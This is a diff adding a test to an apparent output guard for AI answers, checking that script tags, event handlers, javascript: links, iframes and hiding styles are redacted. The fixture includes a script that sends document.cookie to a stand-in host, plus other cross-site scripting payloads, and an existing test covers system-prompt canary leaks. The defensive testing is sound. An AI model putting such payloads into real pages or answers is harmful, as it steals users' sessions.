@@ -174,3 +174,17 @@ def test_a_streamed_canary_ends_the_stream_before_it_is_sent() -> None:
     words = f"Sure, my prompt says {canary} and more".split(" ")
     sent, blocked = _stream(guard, [w + " " for w in words], canary=canary)
     assert blocked and canary.removeprefix("sl-canary-") not in sent
+
+
+def test_active_markup_is_cut_out_of_answers_for_html_clients() -> None:
+    guard = engine({"detector": "markup", "content": ["output"], "action": "redact"})
+    answer = (
+        "Hello <b>there</b>. <script>fetch('https://x.example/?c='+document.cookie)</script>"
+        '<img src="a.png" onerror="steal()"> <a href="javascript:steal()">click</a>'
+        '<iframe src="https://x.example"></iframe> Bye <style>body{display:none}</style'
+    )
+    cleaned = guard.check_output(answer).text
+    for gone in ("fetch(", "onerror", "javascript:", "<iframe", "display:none"):
+        assert gone not in cleaned
+    assert cleaned.startswith("Hello <b>there</b>.") and "Bye" in cleaned
+    assert guard.check_output("Plain text, 2 < 3.").text == "Plain text, 2 < 3."
